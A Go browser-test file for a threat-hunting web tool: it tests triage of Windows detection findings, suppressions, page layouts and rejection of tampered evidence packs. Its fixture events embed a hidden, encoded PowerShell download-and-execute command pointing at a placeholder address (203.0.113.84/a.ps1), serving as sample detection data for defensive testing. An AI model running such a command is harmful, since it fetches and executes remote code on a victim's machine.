package hunt

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"noroshi/internal/testkit"
	"noroshi/internal/testkit/browser"
)

// day is an intruder's day in the words of rules that the program knows: what a
// run of "hunt scan" would send.
func (s *site) day() (list []Incoming) {
	shelf := mustShelf(s.t, s)
	at := s.Clock.Now().Add(-30 * time.Hour)
	hosts := []string{"PC-014.corp.example.jp", "JUMP-02", "AD-01", "FILE-03"}
	users := []string{"CORP\\svc-maint", "CORP\\u1024", "", "CORP\\admin7"}
	for i, r := range shelf.rules {
		if !strings.HasPrefix(themeOf(r), "windows/") {
			continue
		}
		for j := range 1 + i%5 {
			list = append(list, Incoming{Time: at.Add(time.Duration(i*7+j*31) * time.Minute), Kind: "rule", Rule: LineRule{ID: r.Ref(), Title: r.Title, Level: r.Level.String()}, Source: `C:\Windows\System32\winevt\Logs\Security.evtx`,
				Record: uint64(1000 + i*7 + j), Host: hosts[(i+j)%4], User: users[(i*3+j)%4], Attack: Techniques(r),
				Why:   []Why{{Field: "Image", Op: "endswith", Want: `\powershell.exe`, Value: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}, {Field: "CommandLine", Op: "contains", Want: "-enc", Value: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA http://203.0.113.84/a.ps1"}},
				Event: map[string]string{"EventID": "4688", "Channel": "Security", "Computer": hosts[(i+j)%4], "SubjectUserName": "svc-maint", "NewProcessName": `C:\Windows\System32\cmd.exe`, "DestinationIp": "203.0.113.84", "Hashes": "SHA256=" + strings.Repeat("a1", 32)}})
		}
	}
	return list
}

// A hunter brings in a run, looks at one host, calls what is there harmless,
// takes it back, and gives one value to the analysts: with a browser.
func TestAHunterWalksTheDesk(t *testing.T) {
	s := newSite(t)
	h, err := s.Draft(s.hunter(), NewHunt{Title: "遠隔保守まわりの不審な操作", Question: "保守用のアカウントが、夜に道具を動かしていないか", Hosts: "踏み台 JUMP-02\n認証基盤 AD-01", Logs: "Windows のイベントログ", Rules: []string{s.starterRef()}})
	s.must(err)
	h, err = s.Begin(s.hunter(), h.ID, h.Version)
	s.must(err)
	list := s.day()
	file := filepath.Join(t.TempDir(), "result.jsonl")
	if err := os.WriteFile(file, jsonl(t, list...), 0o600); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(s)
	t.Cleanup(srv.Close)
	ctx := browser.New(t, 1440, 900, 200*time.Second)
	run := func(acts ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		if err := chromedp.Do(ctx, acts...); err != nil {
			t.Fatal(err)
		}
	}
	ask := func(js string) string {
		t.Helper()
		v, err := chromedp.Run(ctx, chromedp.Evaluate[string](js))
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	desk := srv.URL + "/hunts/" + h.ID
	run(chromedp.EmulateViewport(1440, 900), chromedp.Navigate(srv.URL+"/as?who=wind~operator.admin"), chromedp.Navigate(desk+"/bring"), chromedp.WaitVisible("h1"),
		chromedp.SetUploadFiles("input[type=file]", []string{file}), chromedp.Click("form[enctype] button.primary"), chromedp.WaitVisible("#desk"))
	if n := ask(`document.querySelectorAll("#desk tbody tr").length + ""`); n != fmt.Sprint(deskRows) {
		t.Errorf("%s rows", n)
	}
	run(chromedp.Navigate(desk+"?host=JUMP-02"), chromedp.WaitVisible("#desk"))
	if hosts := ask(`[...new Set([...document.querySelectorAll('#desk td[data-th="どこで"] > a')].map(x => x.textContent.trim()))].join()`); hosts != "JUMP-02" {
		t.Errorf("hosts: %s", hosts)
	}
	run(chromedp.Click(`#desk tbody tr:nth-child(1) input[type=checkbox]`), chromedp.Click(`#desk tbody tr:nth-child(2) input[type=checkbox]`), chromedp.WaitVisible(`.bulk.on`))
	browser.Shot(t, ctx, "desk-ticked")
	run(chromedp.Click(`.bulk button[value="harmless"]`), chromedp.WaitVisible(`#f-reason`), chromedp.SendKeys(`#f-reason`, "夜間の保守。担当に確かめた"), chromedp.Click(`form button.primary`), chromedp.WaitVisible(`.note.good button`))
	browser.Shot(t, ctx, "desk-done")
	if n := len(s.findings(FindingFilter{State: Harmless})); n != 2 {
		t.Errorf("%d harmless", n)
	}
	run(chromedp.Click(`.note.good button`), chromedp.WaitNotPresent(`.note.good button`), chromedp.WaitVisible("#desk"))
	if n := len(s.findings(FindingFilter{State: Harmless})); n != 0 {
		t.Errorf("%d harmless after undo", n)
	}
	run(chromedp.Click(`#desk tbody tr:nth-child(1) th a`), chromedp.WaitVisible(`a[href$="/release"]`))
	browser.Shot(t, ctx, "finding-walk")
	run(chromedp.Click(`a[href$="/release"]`), chromedp.WaitVisible(`input[name=values]`), chromedp.Click(`input[name=values]`), chromedp.Click(`main form button.primary`), chromedp.WaitVisible(`.note.good`))
	browser.Shot(t, ctx, "release-preview")
	run(chromedp.Click(`main form button.primary`), chromedp.WaitVisible(`#released`))
	if n := testkit.Count(t, s.Parts.DB, "SELECT count(*) FROM sighting_fact"); n != 1 {
		t.Errorf("%d sightings", n)
	}
	s.widths(t, ctx, srv.URL, h, list)
}

// widths wants every page to fit a telephone and a desk, in both languages.
func (s *site) widths(t *testing.T, ctx context.Context, at string, h Hunt, list []Incoming) {
	t.Helper()
	r := s.hub.send(h.ID, "a-second-run", list[20:]...)
	runs, _, err := s.Runs(s.hunter(), h.ID, "", 10)
	s.must(err)
	f := s.findings(FindingFilter{Run: r.ID})
	_, err = s.Triage(s.hunter(), Choice{IDs: []string{f[0].ID, f[1].ID, f[2].ID}}, Decision{State: Real, Reason: "保守の予定がない夜"})
	s.must(err)
	_, err = s.Suppress(s.admin(), NewSuppression{Condition: Condition{Rule: f[5].Rule, Host: "FILE-03"}, Title: f[5].Title, Reason: "バックアップの道具。担当に確かめた", UntilAt: s.Clock.Now().AddDate(0, 2, 0)})
	s.must(err)
	x, err := s.Suppress(s.other(), NewSuppression{Condition: Condition{Rule: f[6].Rule, Field: "CommandLine", Value: "backup.exe /full"}, Title: f[6].Title, Reason: "製品のバックアップ", UntilAt: s.Clock.Now().AddDate(0, 2, 0)})
	s.must(err)
	_, err = s.Offer(s.other(), x.ID, false)
	s.must(err)
	b, err := s.AddRulebook(s.hunter(), "社内の規則", "経理の端末だけの規則")
	s.must(err)
	_, err = s.Upload(s.hunter(), b.ID, zipBook(t, map[string]string{"a.yml": goodRule, "b.yml": strings.Replace(goodRule, "condition: a", "condition: a and", 1)}), "最初の版")
	s.must(err)
	pages := []struct{ name, path string }{{"hunts", "/hunts"}, {"new", "/hunts/new"}, {"desk", "/hunts/" + h.ID}, {"bring", "/hunts/" + h.ID + "/bring"}, {"triage", "/hunts/" + h.ID + "/triage"}, {"finding", "/hunt-findings/" + f[0].ID},
		{"suppress", "/hunt-findings/" + f[0].ID + "/suppress"}, {"release", "/hunt-findings/" + f[0].ID + "/release"}, {"compare", "/hunts/" + h.ID + "/compare?before=" + runs[1].ID + "&after_run=" + runs[0].ID + "&change=gone"}, {"report", "/hunts/" + h.ID + "/report"},
		{"close", "/hunts/" + h.ID + "/close"}, {"batches", "/hunt-batches"}, {"books", "/hunt-rules"}, {"book", "/hunt-rules/" + b.ID}, {"starter", "/hunt-rules/starter?theme=windows%2Fransomware"}, {"rule", "/hunt-rules/starter/rule?id=fd5fd30d-e74b-49ab-be69-eecd1da69066"}, {"suppressions", "/hunt-suppressions"}}
	for _, p := range pages {
		for _, look := range []struct {
			lang, theme string
			width       int64
		}{{"ja", "light", 1440}, {"ja", "light", 360}, {"en", "dark", 1440}, {"en", "dark", 360}} {
			sep := "?"
			if strings.Contains(p.path, "?") {
				sep = "&"
			}
			err := chromedp.Do(ctx, chromedp.EmulateViewport(look.width, 900), chromedp.Navigate(at+p.path+sep+"lang="+look.lang), chromedp.WaitVisible("h1"))
			if err != nil {
				t.Fatal(err)
			}
			wide, err := chromedp.Run(ctx, chromedp.Evaluate[float64](`document.documentElement.dataset.theme = "`+look.theme+`", document.documentElement.scrollWidth`))
			if err != nil {
				t.Fatal(err)
			}
			if wide > float64(look.width) {
				t.Errorf("%s in %s is %v wide on a screen of %d", p.name, look.lang, wide, look.width)
			}
			browser.Shot(t, ctx, fmt.Sprintf("%s-%s-%d", p.name, look.lang, look.width))
		}
	}
}

// A pack is brought in with a browser: an edited one is refused in a sentence
// that names what was edited, and leaves nothing behind; the one that was sealed
// becomes a run that names its sum.
func TestAPackIsBroughtInWithABrowser(t *testing.T) {
	s := newSite(t)
	h := s.hunt()
	dir := t.TempDir()
	log := filepath.Join(dir, "log.jsonl")
	if err := os.WriteFile(log, []byte(`{"k":"v","CommandLine":"xx","Computer":"PC-014"}`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var pack bytes.Buffer
	seal := &sealing{scan: &Scan{Paths: []string{log}, Rules: rulesText(t, "title: Says xx\nid: 7b1d5a55-7d4c-4b3a-9b59-4d1f3d9c0f01\nlogsource: {category: process_creation}\ndetection: {a: {CommandLine: xx}, condition: a}\nlevel: high\n"), NoRouting: true}, options: PackOptions{NoRouting: true}}
	if m, _, err := seal.seal(t.Context(), &pack, nil); err != nil || m.Counts.Detections != 1 {
		t.Fatal(m, err)
	}
	files := map[string][]byte{"sealed.zip": pack.Bytes(), "edited.zip": resealed(t, pack.Bytes(), findingsName, `"PC-014"`, `"PC-015"`), "cut.zip": pack.Bytes()[:pack.Len()-40]}
	for name, raw := range files {
		if err := os.WriteFile(filepath.Join(dir, name), raw, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	srv := httptest.NewServer(s)
	t.Cleanup(srv.Close)
	ctx := browser.New(t, 1440, 900, 200*time.Second)
	bring := func(name, wait string) string {
		t.Helper()
		err := chromedp.Do(ctx, chromedp.Navigate(srv.URL+"/hunts/"+h.ID+"/bring"), chromedp.WaitVisible("h1"), chromedp.SetUploadFiles("input[type=file]", []string{filepath.Join(dir, name)}),
			chromedp.Click("form[enctype] button.primary"), chromedp.WaitVisible(wait))
		if err != nil {
			t.Fatal(name, err)
		}
		said, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector("main").innerText`))
		if err != nil {
			t.Fatal(err)
		}
		browser.Shot(t, ctx, "pack-"+name)
		return said
	}
	if err := chromedp.Do(ctx, chromedp.EmulateViewport(1440, 900), chromedp.Navigate(srv.URL+"/as?who=wind~operator.admin")); err != nil {
		t.Fatal(err)
	}
	s.has("edited", bring("edited.zip", ".errors"), "書庫の "+findingsName+" が目録と違います", "元の書庫をもらい直してください")
	s.has("cut", bring("cut.zip", ".errors"), "証拠の書庫として読めません")
	if runs, _, err := s.Runs(s.hunter(), h.ID, "", 0); err != nil || len(runs) != 0 {
		t.Errorf("%d runs of packs that were refused, %v", len(runs), err)
	}
	s.has("sealed", bring("sealed.zip", "#desk"), "Says xx", "PC-014")
	runs, _, err := s.Runs(s.hunter(), h.ID, "", 0)
	s.must(err)
	if sum := sha256.Sum256(pack.Bytes()); len(runs) != 1 || runs[0].Pack != hex.EncodeToString(sum[:]) || runs[0].Taken != 1 {
		t.Errorf("%+v", runs)
	}
}

// resealed is a pack in which one member says something else, written as sealing
// writes it.
func resealed(t *testing.T, pack []byte, name, old, new string) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(pack), int64(len(pack)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	edited := false
	for _, f := range z.File {
		text, err := member(f)
		if err != nil {
			t.Fatal(err)
		}
		if f.Name == name {
			edited = bytes.Contains(text, []byte(old))
			text = bytes.ReplaceAll(text, []byte(old), []byte(new))
		}
		if err := stored(w, f.Name, bytes.NewReader(text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil || !edited {
		t.Fatal(edited, err)
	}
	return out.Bytes()
}
